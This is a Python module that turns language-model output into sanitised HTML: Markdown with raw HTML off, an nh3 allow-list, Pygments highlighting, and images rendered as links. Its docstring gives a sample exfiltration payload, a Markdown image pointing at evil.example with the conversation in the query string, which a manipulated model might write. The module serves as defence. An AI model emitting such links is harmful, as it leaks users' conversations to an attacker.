"""Model output is untrusted: Markdown with raw HTML off, then sanitized.

What survives: ordinary text formatting, tables, code blocks highlighted by Pygments (class
names only), and links to http(s)/mailto that open safely. No script, no style, no event
handlers, no hx-* attributes, no javascript: links. Panes also carry hx-disable.

Images are shown as links, never loaded: a model talked into writing
``![](https://evil.example/?q=<the conversation>)`` must not make the browser send that
request on its own.
"""

from __future__ import annotations

from html import escape
from typing import Any

import nh3
from markdown_it import MarkdownIt
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

_FORMATTER = HtmlFormatter(nowrap=True, classprefix="tok-")


def _highlight(code: str, lang: str, _attrs: str) -> str:
    if not lang:
        return ""  # markdown-it escapes it itself
    try:
        lexer = get_lexer_by_name(lang.split()[0])
    except ClassNotFound:
        return ""
    return str(highlight(code, lexer, _FORMATTER))


def _image_as_link(_renderer: Any, tokens: Any, idx: int, _options: Any, _env: Any) -> str:
    token = tokens[idx]
    src = escape(str(token.attrGet("src") or ""))
    alt = escape("".join(child.content for child in token.children or []) or "image")
    return f'<a href="{src}">[image: {alt}]</a>'


_MD = MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight})
_MD.enable(["table", "strikethrough"])
_MD.add_render_rule("image", _image_as_link)

_TAGS = {
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "del",
    "s",
    "code",
    "pre",
    "span",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "span": {"class"},
    "ol": {"start"},
    "th": {"style"},
    "td": {"style"},
}


def _allowed_class(tag: str, attribute: str, value: str) -> str | None:
    if attribute == "class":
        classes = [c for c in value.split() if c.startswith(("tok-", "language-"))]
        return " ".join(classes) or None
    if attribute == "style":
        return (
            value if value in {"text-align:left", "text-align:center", "text-align:right"} else None
        )
    return value


def render_markdown(text: str) -> str:
    """Safe HTML for a finished answer."""
    html = _MD.render(text)
    return nh3.clean(
        html,
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        attribute_filter=_allowed_class,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
        strip_comments=True,
    )
